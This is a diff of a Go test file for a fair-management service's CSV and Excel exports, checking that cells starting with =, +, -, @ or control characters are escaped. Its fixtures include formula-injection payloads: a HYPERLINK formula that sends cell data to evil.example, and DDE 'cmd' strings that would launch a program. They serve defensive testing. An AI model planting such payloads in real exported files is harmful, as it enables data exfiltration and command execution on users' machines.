@@ -7,55 +7,11 @@ import (
 
 	"github.com/xuri/excelize/v2"
 
-	"github.com/ocopfair/ocopfair/services/event/internal/application"
+	"github.com/ocopfair/ocopfair/services/event/internal/applicants"
 	"github.com/ocopfair/ocopfair/services/event/internal/booth"
 	"github.com/ocopfair/ocopfair/services/event/internal/fair"
+	"github.com/ocopfair/ocopfair/services/event/internal/sheet"
 )
-
-func TestCSVText(t *testing.T) {
-	for _, c := range []struct {
-		name, in, want string
-	}{
-		{"empty", "", ""},
-		{"plain", "HTX Mật ong Bắc Hà", "HTX Mật ong Bắc Hà"},
-		{"formula", `=HYPERLINK("http://evil.example/?x="&A1,"x")`, `'=HYPERLINK("http://evil.example/?x="&A1,"x")`},
-		{"plus", "+84912345678", "'+84912345678"},
-		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
-		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
-		{"tab", "\t=1+1", "'\t=1+1"},
-		{"carriage return", "\r=1+1", "'\r=1+1"},
-		{"formula later in the text", "Trà = ngon", "Trà = ngon"},
-		{"single quote already", "'=1", "'=1"},
-		{"diacritic first", "Đặc sản", "Đặc sản"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			if got := csvText(c.in); got != c.want {
-				t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
-			}
-		})
-	}
-}
-
-func TestCSVValueKeepsNumbers(t *testing.T) {
-	for _, c := range []struct {
-		name string
-		in   any
-		want string
-	}{
-		{"int", 3, "3"},
-		{"negative int64", int64(-12_000_000), "-12000000"},
-		{"float", 4.5, "4.5"},
-		{"negative float", -1.25, "-1.25"},
-		{"text that looks negative", "-5", "'-5"},
-		{"other types are text", []string{"=1"}, "[=1]"},
-	} {
-		t.Run(c.name, func(t *testing.T) {
-			if got := csvValue(c.in); got != c.want {
-				t.Errorf("csvValue(%#v) = %q, want %q", c.in, got, c.want)
-			}
-		})
-	}
-}
 
 const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"x")`
 
@@ -67,22 +23,27 @@ func hostileInput() Input {
 		Booths: []booth.Booth{{FairID: "f1", Code: "A01", Zone: "@SUM(1+1)", Kind: booth.Standard, W: 3, H: 3}},
 		Assignments: []booth.Assignment{{ID: "as1", FairID: "f1", Code: "A01", Zone: "@SUM(1+1)", ApplicationID: "app1",
 			ProducerID: "p1", Active: true}},
-		Applications: []application.Application{{ID: "app1", FairID: "f1", ProducerID: "p1", ProducerName: hostile, Province: "01",
-			Status: application.Approved, Products: []application.Product{{Name: "+84 912 345 678", CriteriaSet: 1, Sector: "food", Stars: 4}}}},
+		Applications: []applicants.Application{{ID: "app1", FairID: "f1", ProducerID: "p1", ProducerName: hostile, Province: "01",
+			Status: applicants.Approved, Products: []applicants.Product{{Name: "+84 912 345 678", CriteriaSet: 1, Sector: "food", Stars: 4}}}},
 	}
+}
+
+// boothTable is the booth plan's download of in, which the floor-plan routes serve.
+func boothTable(in Input) sheet.Table {
+	return booth.PlanTable(in.Fair, in.Booths, in.Assignments, in.Applications)
 }
 
 func TestExportsNeutraliseFormulas(t *testing.T) {
 	for _, c := range []struct {
 		name        string
-		table       Table
+		table       sheet.Table
 		nameCol     int // column of the producer's name
 		zoneCol     int
 		numberCol   int // a numeric column, which must stay a number
 		numberValue string
 	}{
 		{"exhibitors", ExhibitorTable(hostileInput()), 3, 2, 9, "12000000"},
-		{"booths", BoothTable(hostileInput()), 9, 1, 7, "12000000"},
+		{"booths", boothTable(hostileInput()), 9, 1, 7, "12000000"},
 	} {
 		t.Run(c.name+" csv", func(t *testing.T) {
 			data, err := c.table.CSV()
@@ -107,7 +68,7 @@ func TestExportsNeutraliseFormulas(t *testing.T) {
 				t.Errorf("numeric cell = %q, want %q", got, c.numberValue)
 			}
 			for i, cell := range row {
-				if csvText(cell) != cell {
+				if sheet.Text(cell) != cell {
 					t.Errorf("cell %d = %q can run as a formula", i, cell)
 				}
 			}
